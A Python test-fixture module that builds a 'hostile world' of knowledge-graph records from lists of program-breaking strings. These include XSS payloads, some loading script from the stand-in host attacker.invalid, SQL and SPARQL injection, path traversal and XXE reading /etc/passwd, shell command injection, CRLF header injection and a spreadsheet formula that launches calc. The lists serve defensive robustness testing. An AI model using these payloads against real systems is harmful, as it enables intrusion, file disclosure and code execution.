"""Strings that break programs, and a world made of them: names, titles, outlets, addresses, quotes, ids."""

from __future__ import annotations

from datetime import date

from world import e, m, p

from kg.model import Actor, ActorKind, Claim, Conflict, Document, EventType, Place, Status

MARK = "kghostile"
"""What a script of ours would do, were it run: open a dialog and set this name on the window."""
_RUN = f"window.{MARK}=1;alert(1)"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    f"<template><script>{_RUN}</script></template>",
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}` x=`",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=https://attacker.invalid/x.js></script>{_RUN}",
    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
    "<img src=https://attacker.invalid/x.png>",
    "<base href=https://attacker.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<form action=https://attacker.invalid/><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
ADDRESSES = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.invalid/x",
    "\\\\attacker.invalid\\x",
    "http://[::1",
    "http://example.org/\"onmouseover='alert(1)'",
    "http://example.org/<script>alert(1)</script>",
    "https://user:pass@example.org:99999/",
    "ftp://example.org/x",
    "blob:https://example.org/1",
]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ self.__init__.__globals__ }}",
    "%(name)s",
    "{0}",
    "{name}",
    "%s%s%s%n",
]
SPARQL = [
    '" } } #',
    "' } } #",
    '"""',
    "'''",
    "Q1> } } ; DROP ALL #",
    "x } UNION { ?s ?p ?o",
    "VALUES ?b { wd:Q1 }",
    '"; INSERT DATA { <x:a> <x:b> 1 } #',
    "UNDEF } VALUES ?who { UNDEF",
    "?s ?p ?o",
    "<http://x/> } SERVICE <http://127.0.0.1:1/> { ?s ?p ?o",
    'x" . <x:s> <x:p> "y',
    "@prefix x: <http://x/> . x:a x:b x:c .",
    '"^^<http://www.w3.org/2001/XMLSchema#integer>',
    '"@en',
    "\\",
    "\\\\",
    '\\"',
    "\\u0022",
    "\\U00000022",
    "a\\tb\\n",
    "$a",
    "_:b0",
    "<>",
    "# comment",
    "LOAD <file:///etc/passwd>",
    "' OR '1'='1",
    "1; DROP TABLE events; --",
]
CHARACTERS = [
    "\u202eevil\u202c",
    "\u2066isolated\u2069",
    "\u200f\u200e\u200b\u2060\ufeff",
    "a\u0301\u0302\u0303\u0304" * 20,
    "\u0660\u0661\u0662",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0010ffff",
    "\ufffe\uffff",
    "\u2028line\u2029paragraph",
    "\x00null",
    "a\x00b",
    "\x01\x02\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "tab\there",
    "line\nbreak",
    "carriage\rreturn",
    "\r\nSet-Cookie: x=1\r\n\r\n<html>",
    "%0d%0aSet-Cookie:%20x=1",
    "%00",
    "%",
    "%zz",
    "%ff%fe",
    "+",
    " ",
    "   spaces   ",
    ".",
    "..",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "CON",
    "-",
    "--help",
    "-rf /",
    "$(touch /tmp/kghostile)",
    "`touch /tmp/kghostile`",
    "| touch /tmp/kghostile",
    "; touch /tmp/kghostile",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    "[bold]x[/bold]",
    "__proto__",
    "constructor",
    "\u0130\u0131\u1e9e\ufb03",
    "\u0405\u0443rillic l\u043e\u043eks like Latin",
    "x" * 20_000,
    "\U0001f600" * 2_000,
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]
STRINGS = [*SCRIPTS, *ADDRESSES, *TEMPLATES, *SPARQL, *CHARACTERS]


def hostile_world(store):
    """Every string in every place a text can come to: one document, mention and event each."""
    events, known = [], {}
    for number, text in enumerate(STRINGS):
        document = Document(
            f"{number}-{text[:300]}", text + " met", "en", date(2025, 8, 1 + number % 28), text, text, text
        )
        one = Actor(f"person/h{number}", ActorKind.PERSON, text or "-", "Q30")
        other = Actor("Q7747", ActorKind.PERSON, "Vladimir Putin", "Q159")
        place = Place(f"place/h{number}", text or "-", "Q30", 1.0, 2.0)
        mention = m(
            document, 0, EventType.MEETING, Status.HELD, p(one, other), place=place, originators=(one,), relayers=(one,)
        )
        known[mention.key] = mention
        store.put_document(document, [mention])
        events.append(e(f"h{number}", [mention], conflicts=(Conflict("place", (Claim(text or "-", (mention.key,)),)),)))
    store.replace_events(events, known)
